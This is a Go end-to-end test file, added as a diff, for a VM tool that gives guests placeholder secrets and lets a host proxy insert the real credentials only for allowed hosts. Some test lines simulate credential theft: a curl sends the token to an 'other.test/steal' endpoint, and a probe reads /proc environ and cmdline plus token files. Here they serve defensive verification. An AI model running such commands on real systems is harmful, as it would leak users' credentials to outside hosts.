@@ -1,0 +1,403 @@
+//go:build e2e
+
+package e2e
+
+import (
+	"archive/tar"
+	"crypto/ecdsa"
+	"crypto/elliptic"
+	"crypto/rand"
+	"crypto/tls"
+	"crypto/x509"
+	"crypto/x509/pkix"
+	"encoding/base64"
+	"encoding/hex"
+	"encoding/pem"
+	"fmt"
+	"io"
+	"math/big"
+	"net"
+	"net/http"
+	"net/http/cgi"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/banger-dev/banger/internal/kit/testkit"
+	"github.com/banger-dev/banger/internal/wire/api"
+)
+
+// testCA is a certificate authority a test makes, to sign its servers'
+// certificates.
+type testCA struct {
+	cert *x509.Certificate
+	key  *ecdsa.PrivateKey
+	pem  []byte
+}
+
+func newTestCA(t *testing.T, name string) *testCA {
+	t.Helper()
+	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	tmpl := &x509.Certificate{
+		SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: name},
+		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(24 * time.Hour),
+		IsCA: true, BasicConstraintsValid: true, KeyUsage: x509.KeyUsageCertSign,
+	}
+	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
+	if err != nil {
+		t.Fatal(err)
+	}
+	cert, _ := x509.ParseCertificate(der)
+	return &testCA{cert: cert, key: key, pem: pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})}
+}
+
+// leaf is a server certificate for host, signed by ca.
+func (ca *testCA) leaf(t *testing.T, host string) tls.Certificate {
+	t.Helper()
+	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	tmpl := &x509.Certificate{
+		SerialNumber: big.NewInt(time.Now().UnixNano()), Subject: pkix.Name{CommonName: host}, DNSNames: []string{host},
+		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(24 * time.Hour),
+		KeyUsage: x509.KeyUsageDigitalSignature, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
+	}
+	der, err := x509.CreateCertificate(rand.Reader, tmpl, ca.cert, &key.PublicKey, ca.key)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}
+}
+
+// seen is what a test server received: one line per request, "PROTO
+// PATH AUTHORIZATION".
+type seen struct {
+	mu    sync.Mutex
+	lines []string
+}
+
+func (s *seen) add(r *http.Request) {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	s.lines = append(s.lines, r.Proto+" "+r.URL.Path+" "+r.Header.Get("Authorization"))
+}
+
+// last is the last request's line whose path is path.
+func (s *seen) last(path string) string {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	for i := len(s.lines) - 1; i >= 0; i-- {
+		if strings.Fields(s.lines[i] + " x")[1] == path {
+			return s.lines[i]
+		}
+	}
+	return ""
+}
+
+// serveTLSIn serves h over HTTPS (HTTP/2 and 1.1) on addr in namespace
+// ns, with cert.
+func serveTLSIn(t *testing.T, ns, addr string, cert tls.Certificate, h http.Handler) {
+	t.Helper()
+	var ln net.Listener
+	inNetns(t, ns, func() {
+		var err error
+		if ln, err = net.Listen("tcp4", addr); err != nil {
+			t.Errorf("listen on %s in %s: %v", addr, ns, err)
+		}
+	})
+	if ln == nil {
+		t.FailNow()
+	}
+	srv := &http.Server{Handler: h, TLSConfig: &tls.Config{Certificates: []tls.Certificate{cert}}}
+	go srv.ServeTLS(ln, "", "")
+	t.Cleanup(func() { srv.Close() })
+}
+
+// secretsZone are the outside's HTTPS servers.
+var secretsZone = map[string]string{
+	"api.test.": "203.0.113.41", "other.test.": "203.0.113.42", "git.test.": "203.0.113.43", "bad.test.": "203.0.113.44",
+}
+
+// TestSecrets gives VMs secrets that never enter them: in the network
+// namespace harness, HTTPS servers in "outside" (certificates from a CA
+// the test makes, which the daemon is told to trust) record the
+// credentials they receive. The guest holds placeholders; the host's
+// proxy puts the real value in requests to the secret's hosts only.
+func TestSecrets(t *testing.T) {
+	t.Parallel()
+	testkit.NeedRoot(t, "network namespaces")
+	testkit.NeedTools(t, "iproute2", "ip")
+	testkit.NeedTools(t, "passt", "passt")
+	testkit.NeedTools(t, "curl", "curl")
+	testkit.NeedTools(t, "git", "git")
+	e, base := netEnv(t, func(e *env, reg string) {
+		ents := hostBinsLayer(t, "/usr/bin/curl", "/usr/bin/git", "/usr/lib/git-core/git-remote-https")
+		bundle, err := os.ReadFile("/etc/ssl/certs/ca-certificates.crt")
+		if err != nil {
+			t.Fatal("needs the host's CA bundle (apt-get install ca-certificates); .ci/run installs it")
+		}
+		// The image's own bundle, which the proxy's CA joins in the guest.
+		ents = append(ents, ent{name: "etc/ssl/", typ: tar.TypeDir}, ent{name: "etc/ssl/certs/", typ: tar.TypeDir},
+			ent{name: "etc/ssl/certs/ca-certificates.crt", body: string(bundle), mode: 0o644})
+		ref := reg + "/test/tools:1"
+		push(t, ref, image(t, gzipLayer(t, tarOf(t, append(busyboxLayer(t), ents...)))))
+		e.mustBanger("image", "pull", ref, "--name", "tools")
+	})
+	host, outside := hostAndOutside(t, "bsh", "bso")
+	for _, ip := range secretsZone {
+		ipCmd(t, "-n", outside, "addr", "add", ip+"/32", "dev", "lo")
+	}
+	serveZone(t, outside, outsideAddr+":53", secretsZone)
+	ca, rogue := newTestCA(t, "test CA"), newTestCA(t, "a CA nobody trusts")
+	api1, other := &seen{}, &seen{}
+	record := func(s *seen) http.Handler {
+		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+			s.add(r)
+			// Never the credential back: the guest must not see it.
+			io.WriteString(w, "ok from "+r.Host+"\n")
+		})
+	}
+	serveTLSIn(t, outside, secretsZone["api.test."]+":443", ca.leaf(t, "api.test"), record(api1))
+	serveTLSIn(t, outside, secretsZone["other.test."]+":443", ca.leaf(t, "other.test"), record(other))
+	serveTLSIn(t, outside, secretsZone["bad.test."]+":443", rogue.leaf(t, "bad.test"), record(&seen{}))
+
+	// The secrets' values: from files the CLI reads with its rights.
+	tok, otherTok := "tok_"+randHex(t, 20), "oth_"+randHex(t, 20)
+	secretsDir := filepath.Join(e.dir, "user")
+	os.MkdirAll(secretsDir, 0o700)
+	os.WriteFile(filepath.Join(secretsDir, "tok"), []byte(tok+"\n"), 0o600)
+	os.WriteFile(filepath.Join(secretsDir, "other"), []byte(otherTok), 0o600)
+	userCfg := filepath.Join(secretsDir, "config.toml")
+	os.WriteFile(userCfg, []byte(fmt.Sprintf(`[secrets.tok]
+from_file = %q
+hosts = ["api.test", "git.test", "bad.test"]
+env = "TOK"
+
+[secrets.other]
+from_file = %q
+hosts = ["other.test"]
+env = "OTHER"
+file = "~/.config/other/token"
+`, filepath.Join(secretsDir, "tok"), filepath.Join(secretsDir, "other"))), 0o644)
+	e.extraEnv = []string{"BANGER_CONFIG=" + userCfg}
+
+	// A repository behind git http-backend that wants tok as a Basic
+	// password.
+	bare := filepath.Join(e.dir, "git", "repo.git")
+	gitSrc := filepath.Join(e.dir, "git-src")
+	for _, args := range [][]string{
+		{"init", "-q", "--bare", bare},
+		{"init", "-q", "-b", "main", gitSrc},
+		{"-C", gitSrc, "-c", "user.name=T", "-c", "user.email=t@example.com", "commit", "-q", "--allow-empty", "-m", "hello from git.test"},
+		{"-C", gitSrc, "push", "-q", bare, "main"},
+		{"-C", bare, "symbolic-ref", "HEAD", "refs/heads/main"},
+	} {
+		if out, err := exec.Command("git", args...).CombinedOutput(); err != nil {
+			t.Fatalf("git %v: %v\n%s", args, err, out)
+		}
+	}
+	gitSeen := &seen{}
+	backend := &cgi.Handler{Path: "/usr/lib/git-core/git-http-backend", Env: []string{"GIT_PROJECT_ROOT=" + filepath.Dir(bare), "GIT_HTTP_EXPORT_ALL=1"}}
+	serveTLSIn(t, outside, secretsZone["git.test."]+":443", ca.leaf(t, "git.test"), http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		gitSeen.add(r)
+		if _, pass, ok := r.BasicAuth(); !ok || pass != tok {
+			w.Header().Set("WWW-Authenticate", `Basic realm="git.test"`)
+			http.Error(w, "who are you?", http.StatusUnauthorized)
+			return
+		}
+		backend.ServeHTTP(w, r)
+	}))
+
+	caFile := filepath.Join(e.dir, "test-ca.pem")
+	os.WriteFile(caFile, ca.pem, 0o644)
+	e.netns = host
+	if err := os.WriteFile(e.config, []byte(base+fmt.Sprintf("dns_upstream = %q\nproxy_ca_files = [%q]\n", outsideAddr, caFile)), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	e.start()
+
+	// An unknown secret makes no VM.
+	if _, errOut, code := e.banger("vm", "run", "--name", "nope", "--image", "tools", "--secret", "nosuch", "--", "true"); code == 0 || !strings.Contains(errOut, `no secret "nosuch"`) {
+		t.Errorf("--secret nosuch: exit %d, %s", code, errOut)
+	}
+	if vs := e.vms(); len(vs) != 0 {
+		t.Errorf("a VM was made for an unknown secret: %v", vmNames(vs))
+	}
+
+	_, errOut, code := e.banger("vm", "run", "--name", "s1", "--image", "tools", "--secret", "tok", "--secret", "other", "--", "true")
+	if code != 0 || !strings.Contains(errOut, "gave vm s1 secret tok") {
+		t.Fatalf("vm run --secret: exit %d\n%s", code, errOut)
+	}
+	sh := func(vm, script string) string {
+		e.t.Helper()
+		out, errOut, code := e.banger("vm", "exec", vm, "--", "sh", "-c", script)
+		if code != 0 {
+			e.t.Fatalf("%s: exit %d\n%s%s", script, code, out, errOut)
+		}
+		return out
+	}
+	t.Cleanup(func() {
+		if t.Failed() {
+			t.Logf("the daemon's log:\n%s", tail(e.log.String(), 60))
+		}
+	})
+	ph := strings.TrimSpace(sh("s1", "echo $TOK"))
+	if ph == tok || !strings.HasPrefix(ph, "tok_") || len(ph) != len(tok) {
+		t.Fatalf("the guest's $TOK is %q: want a placeholder shaped as the value (prefix tok_, %d chars)", ph, len(tok))
+	}
+	if f := sh("s1", "cat ~/.config/other/token"); f == otherTok || !strings.HasPrefix(f, "oth_") {
+		t.Errorf("the guest's token file holds %q, want a placeholder", f)
+	}
+
+	t.Run("the real value reaches the secret's host: a Bearer header, a Basic credential", func(t *testing.T) {
+		defer e.use(t)()
+		if out := sh("s1", `curl -sS -H "Authorization: Bearer $TOK" https://api.test/bearer`); out != "ok from api.test\n" {
+			t.Errorf("curl api.test: %q", out)
+		}
+		if got := api1.last("/bearer"); !strings.HasSuffix(got, " Bearer "+tok) {
+			t.Errorf("api.test received %q, want the real value", got)
+		}
+		sh("s1", `curl -sS -u x:$TOK https://api.test/basic`)
+		if got, want := api1.last("/basic"), "Basic "+base64.StdEncoding.EncodeToString([]byte("x:"+tok)); !strings.HasSuffix(got, want) {
+			t.Errorf("api.test received %q, want %q", got, want)
+		}
+		// The guest's trust store holds the proxy's CA: curl trusts it
+		// without the variables too.
+		if out := sh("s1", `env -u CURL_CA_BUNDLE -u SSL_CERT_FILE curl -sS -H "Authorization: Bearer $TOK" https://api.test/bundle`); out != "ok from api.test\n" {
+			t.Errorf("curl with the image's bundle path: %q", out)
+		}
+	})
+
+	t.Run("HTTP/2 through the proxy; a certificate that does not verify is refused clearly", func(t *testing.T) {
+		defer e.use(t)()
+		if v := sh("s1", `curl -sS --http2 -o /dev/null -w '%{http_version}' -H "Authorization: Bearer $TOK" https://api.test/h2`); v != "2" {
+			t.Errorf("curl --http2 spoke HTTP/%s to the proxy", v)
+		}
+		if got := api1.last("/h2"); !strings.HasSuffix(got, " Bearer "+tok) {
+			t.Errorf("api.test received %q over HTTP/2", got)
+		}
+		out, _, _ := e.banger("vm", "exec", "s1", "--", "sh", "-c", `curl -sS -H "Authorization: Bearer $TOK" https://bad.test/`)
+		if !strings.Contains(out, "certificate") || !strings.Contains(out, "bad.test") {
+			t.Errorf("curl bad.test: %q, want the proxy's refusal naming the certificate", out)
+		}
+	})
+
+	t.Run("a placeholder sent where it may not go goes out as it is, and is recorded", func(t *testing.T) {
+		defer e.use(t)()
+		sh("s1", `curl -sS -H "Authorization: Bearer $TOK" https://other.test/steal`)
+		if got := other.last("/steal"); !strings.HasSuffix(got, " Bearer "+ph) {
+			t.Errorf("other.test received %q, want the placeholder %s", got, ph)
+		}
+		sh("s1", `curl -sS -H "Authorization: token $OTHER" https://other.test/mine`)
+		if got := other.last("/mine"); !strings.HasSuffix(got, " token "+otherTok) {
+			t.Errorf("other.test received %q for its own secret", got)
+		}
+		v := e.vm("s1")
+		var tokRec api.VMSecret
+		for _, s := range v.Secrets {
+			if s.Name == "tok" {
+				tokRec = s
+			}
+		}
+		if !tokRec.Held || tokRec.Uses < 3 || len(tokRec.Attempts) != 1 || tokRec.Attempts[0].Host != "other.test" {
+			t.Errorf("vm show's record of tok: %+v", tokRec)
+		}
+		if show := e.mustBanger("vm", "show", "s1"); !strings.Contains(show, "ATTEMPT") || !strings.Contains(show, "other.test") {
+			t.Errorf("vm show does not show the attempt:\n%s", show)
+		}
+		if log := e.log.String(); !strings.Contains(log, "secret placeholder sent where its value may not go") || !strings.Contains(log, "other.test") {
+			t.Errorf("the daemon's log does not name the attempt")
+		}
+	})
+
+	t.Run("git clone over HTTPS with the placeholder in a credential helper", func(t *testing.T) {
+		defer e.use(t)()
+		out := sh("s1", `git -c credential.helper='!f() { echo username=x; echo password=$TOK; }; f' clone -q https://git.test/repo.git /root/r 2>&1; git -C /root/r log --format=%s -1`)
+		if !strings.Contains(out, "hello from git.test") {
+			t.Errorf("git clone: %q\nthe server saw: %v", out, gitSeen.lines)
+		}
+	})
+
+	t.Run("the real value is nowhere in the guest, its snapshot or the state directory", func(t *testing.T) {
+		defer e.use(t)()
+		out := sh("s1", "env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null; cat ~/.config/other/token /run/banger/lent/* 2>/dev/null; true")
+		for _, v := range []string{tok, otherTok} {
+			if strings.Contains(out, v) {
+				t.Errorf("the guest's environment or lent files hold a real value")
+			}
+		}
+		if !strings.Contains(out, ph) {
+			t.Errorf("the guest's environment lacks the placeholder (the probe proves nothing)")
+		}
+		e.mustBanger("vm", "snapshot", "s1", "snap1", "--with-lent")
+		// Disks aside (the owner test says why): the value never entered
+		// the guest, so only memory and what the daemon wrote could hold it.
+		found := append(grepTree(t, e.stateDir, tok), grepTree(t, e.stateDir, otherTok)...)
+		if len(found) > 0 {
+			t.Errorf("real values found under the state directory: %v", found)
+		}
+		if found := grepTree(t, e.stateDir, ph); len(found) == 0 {
+			t.Errorf("the placeholder is nowhere under the state directory: the search proves nothing")
+		}
+		if strings.Contains(e.log.String(), tok) || strings.Contains(e.log.String(), otherTok) {
+			t.Errorf("the daemon's log holds a real value")
+		}
+		e.mustBanger("vm", "snapshot", "rm", "snap1")
+	})
+
+	t.Run("after vm rm, its placeholder means nothing through another VM's proxy", func(t *testing.T) {
+		defer e.use(t)()
+		e.mustBanger("vm", "run", "--name", "s2", "--image", "tools", "--secret", "tok", "--", "true")
+		if ph2 := strings.TrimSpace(sh("s2", "echo $TOK")); ph2 == ph {
+			t.Fatalf("two VMs share a placeholder")
+		}
+		e.mustBanger("vm", "rm", "-f", "s1")
+		sh("s2", fmt.Sprintf(`curl -sS -H "Authorization: Bearer %s" https://api.test/after-rm`, ph))
+		if got := api1.last("/after-rm"); !strings.HasSuffix(got, " Bearer "+ph) {
+			t.Errorf("s1's placeholder through s2's proxy reached api.test as %q", got)
+		}
+		e.mustBanger("vm", "rm", "-f", "s2")
+	})
+
+	t.Run("banger mcp --secret: the agent sees the placeholder only", func(t *testing.T) {
+		defer e.use(t)()
+		server := e.write("mcp-secret", fmt.Sprintf("#!/bin/sh\nexec %s mcp --secret tok\n", bangerBin))
+		os.Chmod(server, 0o755)
+		in := &inspector{t: t, bin: mcpInspector(t), e: e, dir: e.dir, server: server}
+		var created struct {
+			Name string `json:"name"`
+		}
+		in.call(&created, false, "sandbox_create", "image=tools", "no_workdir=true")
+		var x struct {
+			ExitCode int    `json:"exit_code"`
+			Stdout   string `json:"stdout"`
+		}
+		in.call(&x, false, "sandbox_exec", "vm="+created.Name, "command=env")
+		if x.ExitCode != 0 || !strings.Contains(x.Stdout, "TOK=tok_") || strings.Contains(x.Stdout, tok) {
+			t.Errorf("sandbox_exec env: exit %d, the placeholder shown: %v, the value shown: %v", x.ExitCode, strings.Contains(x.Stdout, "TOK=tok_"), strings.Contains(x.Stdout, tok))
+		}
+		in.call(nil, false, "sandbox_remove", "vm="+created.Name, "force=true")
+	})
+}
+
+// tail is the last n lines of s.
+func tail(s string, n int) string {
+	lines := strings.Split(strings.TrimRight(s, "\n"), "\n")
+	return strings.Join(lines[max(0, len(lines)-n):], "\n")
+}
+
+func randHex(t *testing.T, n int) string {
+	b := make([]byte, n)
+	if _, err := rand.Read(b); err != nil {
+		t.Fatal(err)
+	}
+	return hex.EncodeToString(b)
+}
